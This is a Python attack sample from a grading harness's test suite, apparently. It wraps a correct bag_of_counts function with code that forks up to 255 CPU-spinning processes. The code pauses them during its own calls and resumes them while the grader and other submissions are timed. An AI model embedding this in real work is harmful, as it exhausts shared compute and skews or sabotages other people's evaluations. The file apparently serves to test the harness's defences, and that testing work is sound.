# Attack "cpu_hog" (tests/attacks): bag_of_counts is right, and leaves spinners running between its own calls.
# It forks as many spinning processes as its process limit lets it (at most 255), pauses them (SIGSTOP)
# during its own calls, so that they cost it nothing, and lets them spin (SIGCONT) while the grader,
# and any grading beside it, works. Each spinner is at nice 19, so that the attacker's own worker (nice 0)
# still answers in time when it competes with its spinners: 255 of them still weigh more than four
# processes at nice 0. Bounded: each spinner stops after 60 s, or when its parent is gone.
# Appended to the base module: these definitions replace its own of the same names.

import os
import signal
import threading
import time

import numpy as np
import torch

# -- the attack ---------------------------------------------------------------------------
ATTACK = "@@NAME@@"
SPINNERS: list[int] = []
STARTED: list[threading.Thread] = []
SPIN_SECONDS = 60.0
_honest_bag_of_counts = bag_of_counts  # noqa: F821 (the base module's own, defined above this text)


def _spin(parent: int) -> None:
    try:
        os.nice(19)
    except OSError:
        pass
    end = time.monotonic() + SPIN_SECONDS
    while time.monotonic() < end and os.getppid() == parent:
        pass
    os._exit(0)


def _start_spinners() -> None:
    parent = os.getpid()
    time.sleep(1.0)  # the call that started it has answered
    for _ in range(255):
        try:
            child = os.fork()
        except OSError:  # the process limit: as many as it may
            return
        if child == 0:
            _spin(parent)
        SPINNERS.append(child)


def _signal_all(number: int) -> None:
    for pid in list(SPINNERS):
        try:
            os.kill(pid, number)
        except OSError:
            pass


def bag_of_counts(tokens: torch.Tensor) -> np.ndarray:
    """How many times each digit 1..9 occurs in each row (the reference's answer), spinners aside."""
    if not STARTED:  # forking a process that holds torch 255 times takes seconds: in a thread, after the call
        STARTED.append(threading.Thread(target=_start_spinners, daemon=True))
        STARTED[0].start()
    _signal_all(signal.SIGSTOP)  # quiet while its own call runs
    try:
        return _honest_bag_of_counts(tokens)
    finally:
        _signal_all(signal.SIGCONT)  # and spinning while everyone else's does
